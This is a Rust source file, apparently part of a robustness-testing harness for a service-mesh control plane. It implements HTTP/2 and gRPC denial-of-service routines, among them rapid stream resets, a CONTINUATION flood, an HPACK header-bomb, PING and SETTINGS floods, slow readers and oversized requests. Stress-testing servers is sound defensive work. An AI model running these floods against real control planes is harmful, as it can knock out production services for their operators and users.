@@ -1,0 +1,391 @@
+//! What each attack sends. All of it comes from one workload, which may connect.
+
+use std::time::{Duration, Instant};
+
+use clap::ValueEnum as _;
+use serde::Serialize;
+
+use super::raw::{Ground, Request, Script, Setup, Spent, pause};
+use crate::control::{
+    AUTHORITY,
+    connection::{Connection, END_HEADERS, HEADERS, PING, RESET, SETTINGS, WINDOW_UPDATE, head, id_of},
+    message::{Form, Kind, Response, names},
+};
+
+/// The family of all virtual hosts of the mesh.
+const FAMILY: &str = "80";
+/// The largest window.
+const ALL: u32 = (1 << 31) - 1;
+/// Streams of a connection, where there are many.
+const STREAMS: usize = 16;
+/// Bytes of requests that are sent together.
+const BATCH: usize = 8 << 10;
+/// Names in a request of many.
+const MANY: usize = 20_000;
+/// Length of a request that is never complete, in bytes.
+const ENDLESS: usize = 4 << 20;
+/// Continuation of a header block.
+const CONTINUATION: u8 = 9;
+/// RFC 9113, section 7: CANCEL.
+const CANCEL: [u8; 4] = 8u32.to_be_bytes();
+
+/// What a workload does to its control plane.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub(crate) enum Attack {
+    /// Nothing: what an honest sidecar sees by itself.
+    None,
+    /// Subscribes to a family of virtual hosts, reads nothing, and acknowledges with guessed nonces and the same names.
+    Guess,
+    /// The same on 16 streams of each connection.
+    GuessMany,
+    /// The same, but gives the family up before each acknowledgement.
+    GuessToggle,
+    /// Subscribes to a family and gives it up in turn, without reading.
+    Toggle,
+    /// The same, and reads.
+    ToggleRead,
+    /// Asks for the same family again and again, reads and acknowledges.
+    Again,
+    /// Takes the whole mesh by name on 16 streams of each connection, and reads nothing.
+    Unread,
+    /// The same, and reads a byte of each stream a second.
+    Slow,
+    /// Subscribes to more and more names that do not exist.
+    Names,
+    /// Says that it has more and more names that do not exist, of all types.
+    Versions,
+    /// Requests of two million empty names.
+    Empty,
+    /// Requests of 4 MiB on 16 streams of each connection that lack the last byte.
+    Incomplete,
+    /// Refuses each response with a reason of 256 KiB, and asks again.
+    Refuse,
+    /// Opens streams and resets them at once.
+    Reset,
+    /// PING frames.
+    Ping,
+    /// SETTINGS frames.
+    Settings,
+    /// WINDOW_UPDATE frames of one byte.
+    Window,
+    /// CONTINUATION frames without end.
+    Continuation,
+    /// Header blocks that refer to one long field thousands of times.
+    Headers,
+    /// Connects, sends a first request and leaves.
+    Connect,
+}
+
+impl Attack {
+    pub(super) fn all() -> Vec<Self> {
+        Self::value_variants().to_vec()
+    }
+
+    /// Goes on until it is over.
+    pub(super) fn play(self, ground: Ground, over: impl Fn() -> bool) -> anyhow::Result<Spent> {
+        let setup = |calls, window| Setup { calls, window };
+        let node = ground.node.as_slice();
+        let frames = |kind: u8, flags: u8, stream: u32, content: &'static [u8]| {
+            let frame = move |connection: &mut Connection| connection.frame(kind, flags, stream, content);
+            Repeat { node, count: 1_000, opened: false, send: frame }
+        };
+        match self {
+            Self::None => {
+                while !over() {
+                    pause();
+                }
+                Ok(Spent::default())
+            }
+            Self::Guess | Self::GuessMany | Self::GuessToggle => {
+                let calls = if self == Self::GuessMany { STREAMS } else { 1 };
+                let toggles = self == Self::GuessToggle;
+                ground.run(setup(calls, 0), || Guess { node, calls, toggles, nonce: 0 }, over)
+            }
+            Self::Toggle => ground.run(setup(1, 0), || Toggle { node }, over),
+            Self::ToggleRead => ground.run(setup(1, ALL), || Toggle { node }, over),
+            Self::Again => ground.run(setup(1, ALL), || Again { node, begun: false, reason: None }, over),
+            Self::Refuse => {
+                let reason = "x".repeat(256 << 10);
+                ground.run(setup(1, ALL), || Again { node, begun: false, reason: Some(&reason) }, over)
+            }
+            Self::Unread | Self::Slow => {
+                let script = || Unread { ground: &ground, slow: self == Self::Slow, last: None };
+                ground.run(setup(STREAMS, 0), script, over)
+            }
+            Self::Names => ground.run(setup(4, ALL), || Names { node, next: 0 }, over),
+            Self::Versions => ground.run(setup(STREAMS, 0), || Versions { node, next: 0 }, over),
+            Self::Empty => ground.run(setup(4, ALL), || Empty { node, begun: false }, over),
+            Self::Incomplete => ground.run(setup(STREAMS, ALL), || Incomplete { next: 0 }, over),
+            Self::Reset => ground.run(setup(0, ALL), || Reset { next: 1 }, over),
+            Self::Ping => ground.run(setup(1, ALL), || frames(PING, 0, 0, &[7; 8]), over),
+            Self::Settings => ground.run(setup(1, ALL), || frames(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), over),
+            Self::Window => ground.run(setup(1, 0), || frames(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]), over),
+            Self::Continuation => ground.run(setup(0, ALL), || Continuation { begun: false }, over),
+            Self::Headers => ground.run(setup(0, ALL), || Bomb { next: 1 }, over),
+            Self::Connect => ground.run(setup(1, ALL), || Connect { node, begun: false }, over),
+        }
+    }
+}
+
+impl std::fmt::Display for Attack {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.to_possible_value().as_ref().map_or("", |value| value.get_name()))
+    }
+}
+
+struct Guess<'a> {
+    node: &'a [u8],
+    calls: usize,
+    /// The family is given up before it is asked for again.
+    toggles: bool,
+    nonce: u64,
+}
+
+impl Script for Guess<'_> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        // HTTP/2 bounds how many short frames are received in a row, so many requests are sent together.
+        let names = names([FAMILY]);
+        let mut batch = Vec::new();
+        while batch.len() < BATCH {
+            let text = self.nonce.to_string();
+            let nonce = if self.nonce == 0 { b"" } else { text.as_bytes() };
+            let node = std::mem::take(&mut self.node);
+            if self.toggles && self.nonce > 0 {
+                batch.extend(Request { unsubscribe: &[FAMILY], ..Request::default() }.message());
+            }
+            batch.extend(Request { node, names: &names, nonce, ..Request::default() }.message());
+            self.nonce += 1;
+        }
+        (0..self.calls).for_each(|call| connection.send(call, &batch));
+    }
+}
+
+struct Toggle<'a> {
+    node: &'a [u8],
+}
+
+impl Script for Toggle<'_> {
+    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+        let node = std::mem::take(&mut self.node);
+        let mut batch = Vec::new();
+        if !node.is_empty() {
+            batch.extend(Request { node, ..Request::default() }.message());
+        }
+        for (_, response) in responses {
+            batch.extend(Request { nonce: &response.nonce, ..Request::default() }.message());
+        }
+        while batch.len() < BATCH {
+            batch.extend(Request { names: &names([FAMILY]), ..Request::default() }.message());
+            batch.extend(Request { unsubscribe: &[FAMILY], ..Request::default() }.message());
+        }
+        connection.send(0, &batch);
+    }
+}
+
+/// Asks again as soon as it has been answered.
+struct Again<'a> {
+    node: &'a [u8],
+    begun: bool,
+    /// Why it refuses what it is sent, if it does.
+    reason: Option<&'a str>,
+}
+
+impl Script for Again<'_> {
+    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+        let names = names([FAMILY]);
+        if !std::mem::replace(&mut self.begun, true) {
+            connection.send(0, &Request { node: self.node, names: &names, ..Request::default() }.message());
+        }
+        for (call, response) in responses {
+            let answer =
+                Request { nonce: &response.nonce, names: &names, error: self.reason, ..Request::default() };
+            connection.send(call, &answer.message());
+        }
+    }
+}
+
+struct Unread<'a> {
+    ground: &'a Ground,
+    /// It reads a byte a second.
+    slow: bool,
+    last: Option<Instant>,
+}
+
+impl Script for Unread<'_> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        if self.last.is_none() {
+            for call in 0..STREAMS {
+                let mut node = self.ground.node.as_slice();
+                for kind in [Kind::Endpoint, Kind::VirtualHost, Kind::Route, Kind::Cluster, Kind::Listener] {
+                    let names: &[u8] = match kind {
+                        Kind::Endpoint => &self.ground.endpoint_names,
+                        Kind::Route | Kind::VirtualHost => &self.ground.route_names,
+                        Kind::Cluster | Kind::Listener => b"",
+                    };
+                    let request = Request { node, kind: Some(kind), names, ..Request::default() };
+                    connection.send(call, &request.message());
+                    node = b"";
+                }
+            }
+        }
+        if self.last.is_none_or(|last| last.elapsed() > Duration::from_secs(1)) {
+            self.last = Some(Instant::now());
+            for call in (0..STREAMS).filter(|_| self.slow) {
+                connection.frame(WINDOW_UPDATE, 0, id_of(call), &1u32.to_be_bytes());
+            }
+        }
+    }
+}
+
+struct Names<'a> {
+    node: &'a [u8],
+    next: usize,
+}
+
+impl Script for Names<'_> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        let kind = Kind::ALL[self.next % Kind::ALL.len()];
+        for call in 0..4 {
+            let all: Vec<String> = (0..MANY).map(|number| format!("no/{}-{number}", self.next)).collect();
+            let names = names(all.iter().map(String::as_str));
+            let node = if self.next == 0 { self.node } else { b"" };
+            connection.send(
+                call,
+                &Request { node, kind: Some(kind), names: &names, ..Request::default() }.message(),
+            );
+        }
+        self.next += 1;
+    }
+}
+
+struct Versions<'a> {
+    node: &'a [u8],
+    next: usize,
+}
+
+impl Script for Versions<'_> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        let Some(kind) = Kind::ALL.get(self.next) else { return };
+        let have: Vec<String> = (0..MANY).map(|number| format!("no/{number}")).collect();
+        let node = if self.next == 0 { self.node } else { b"" };
+        let names = names(["*"]);
+        let request = Request { node, kind: Some(*kind), names: &names, have: &have, ..Request::default() };
+        let message = request.message();
+        (0..STREAMS).for_each(|call| connection.send(call, &message));
+        self.next += 1;
+    }
+}
+
+struct Empty<'a> {
+    node: &'a [u8],
+    begun: bool,
+}
+
+impl Script for Empty<'_> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        let node = if std::mem::replace(&mut self.begun, true) { b"" } else { self.node };
+        let names = [3 << 3 | 2, 0].repeat(2_000_000);
+        let message = Request { node, names: &names, ..Request::default() }.message();
+        (0..4).for_each(|call| connection.send(call, &message));
+    }
+}
+
+struct Incomplete {
+    next: usize,
+}
+
+impl Script for Incomplete {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        if self.next < STREAMS {
+            let mut message = vec![0; 5 + ENDLESS - 1];
+            message[1..5].copy_from_slice(&(ENDLESS as u32).to_be_bytes());
+            connection.send(self.next, &message);
+            self.next += 1;
+        }
+    }
+}
+
+/// Sends many of the same frame.
+struct Repeat<'a, F> {
+    node: &'a [u8],
+    count: usize,
+    opened: bool,
+    send: F,
+}
+
+impl<F: Fn(&mut Connection)> Script for Repeat<'_, F> {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        if !std::mem::replace(&mut self.opened, true) {
+            let request = Request { node: self.node, names: &names([FAMILY]), ..Request::default() };
+            connection.send(0, &request.message());
+        }
+        (0..self.count).for_each(|_| (self.send)(connection));
+    }
+}
+
+struct Reset {
+    next: u32,
+}
+
+impl Script for Reset {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        let fields = head(Form::Delta, AUTHORITY);
+        for _ in 0..10 {
+            connection.frame(HEADERS, END_HEADERS, self.next, &fields);
+            connection.frame(RESET, 0, self.next, &CANCEL);
+            self.next += 2;
+        }
+    }
+}
+
+struct Continuation {
+    begun: bool,
+}
+
+impl Script for Continuation {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        if !std::mem::replace(&mut self.begun, true) {
+            connection.frame(HEADERS, 0, 1, &head(Form::Delta, AUTHORITY));
+        }
+        // A field of a name and a value of one byte each, without a table.
+        let fields = [0, 1, b'a', 1, b'b'].repeat(100);
+        (0..10).for_each(|_| connection.frame(CONTINUATION, 0, 1, &fields));
+    }
+}
+
+struct Bomb {
+    next: u32,
+}
+
+impl Script for Bomb {
+    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+        let mut block = head(Form::Delta, AUTHORITY);
+        // A field of 3,000 bytes, which goes into the table, and then its index (RFC 7541, sections 6.2.1 and 6.1).
+        block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xb9, 0x16]);
+        block.extend([b'b'; 3_000]);
+        block.extend([0xbe; 12_000]);
+        connection.frame(HEADERS, END_HEADERS, self.next, &block);
+        self.next += 2;
+    }
+}
+
+struct Connect<'a> {
+    node: &'a [u8],
+    begun: bool,
+}
+
+impl Script for Connect<'_> {
+    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+        if !std::mem::replace(&mut self.begun, true) {
+            connection.send(
+                0,
+                &Request { node: self.node, names: &names([FAMILY]), ..Request::default() }.message(),
+            );
+        }
+        if !responses.is_empty() {
+            // It is against the protocol, so the server ends the connection.
+            connection.frame(WINDOW_UPDATE, 0, 0, &[0; 4]);
+        }
+    }
+}
